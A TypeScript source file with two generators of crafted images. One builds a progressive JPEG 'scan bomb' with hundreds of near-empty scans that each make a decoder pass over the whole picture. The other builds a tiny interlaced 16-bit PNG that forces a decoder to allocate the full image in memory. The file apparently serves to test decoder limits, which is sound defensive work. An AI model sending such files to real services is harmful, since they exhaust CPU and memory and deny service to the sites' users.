import { crc32, deflateSync } from "node:zlib";

const segment = (code: number, ...data: number[]) => [
  0xff,
  code,
  (data.length + 2) >> 8,
  (data.length + 2) & 255,
  ...data,
];
const uint16 = (value: number) => [value >> 8, value & 255];

/**
 * A progressive JPEG in grey whose scans say nothing: each passes over the whole picture, for some 30 bytes a scan
 * (ITU-T T.81, annex G). Valid up to 895 scans; the last one is repeated beyond that.
 */
export function scanBomb(width: number, height: number, scans: number): Uint8Array {
  const blocks = Math.ceil(width / 8) * Math.ceil(height / 8);
  const parts: number[] = [0xff, 0xd8];
  parts.push(...segment(0xdb, 0, ...Array.from({ length: 64 }, () => 1)));
  parts.push(...segment(0xc2, 8, ...uint16(height), ...uint16(width), 1, 1, 0x11, 0));
  // One code of one bit each: "the same as before" for DC, "the next 2^14 + n blocks are empty" for AC.
  const code = (tableClass: number, symbol: number) =>
    segment(0xc4, tableClass, 1, ...Array.from({ length: 15 }, () => 0), symbol);
  parts.push(...code(0x00, 0), ...code(0x10, 0xe0));
  const scan = (from: number, to: number, high: number, low: number, bits: string) => {
    parts.push(...segment(0xda, 1, 1, 0x00, from, to, (high << 4) | low));
    for (let at = 0; at < bits.length; at += 8) {
      const byte = Number.parseInt(bits.slice(at, at + 8).padEnd(8, "1"), 2);
      parts.push(byte);
      if (byte === 0xff) parts.push(0);
    }
  };
  scan(0, 0, 0, 13, "0".repeat(blocks));
  const runs = `0${"1".repeat(14)}`.repeat(Math.ceil(blocks / 32_767));
  for (let i = 0; i < scans - 1; i++) {
    const coefficient = Math.min(63, 1 + Math.floor(i / 14));
    const low = 13 - (i % 14);
    scan(coefficient, coefficient, low === 13 ? 0 : low + 1, low, runs);
  }
  parts.push(0xff, 0xd9);
  return Uint8Array.from(parts);
}

/** An interlaced PNG of one colour, 16 bits a sample: some kB that take the whole picture in memory. */
export function interlacedPng(width: number, height: number, channels: 1 | 3 | 4 = 3): Uint8Array {
  const chunk = (type: string, data: Uint8Array) => {
    const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
    const frame = Buffer.alloc(8);
    frame.writeUInt32BE(data.length);
    frame.writeUInt32BE(crc32(body), 4);
    return Buffer.concat([frame.subarray(0, 4), body, frame.subarray(4)]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width);
  header.writeUInt32BE(height, 4);
  header.set([16, { 1: 0, 3: 2, 4: 6 }[channels], 0, 0, 1], 8);
  // Adam7: column and row of the first pixel of each pass, and the steps between its pixels (PNG, 8.2).
  const passes = [
    [0, 0, 8, 8],
    [4, 0, 8, 8],
    [0, 4, 4, 8],
    [2, 0, 4, 4],
    [0, 2, 2, 4],
    [1, 0, 2, 2],
    [0, 1, 1, 2],
  ] as const;
  const bytes = passes.reduce((sum, [left, top, across, down]) => {
    const [columns, rows] = [Math.ceil((width - left) / across), Math.ceil((height - top) / down)];
    return columns > 0 && rows > 0 ? sum + rows * (1 + columns * channels * 2) : sum;
  }, 0);
  return Buffer.concat([
    Buffer.from("\x89PNG\r\n\x1a\n", "latin1"),
    chunk("IHDR", header),
    chunk("IDAT", deflateSync(Buffer.alloc(bytes), { level: 1 })),
    chunk("IEND", Buffer.alloc(0)),
  ]);
}
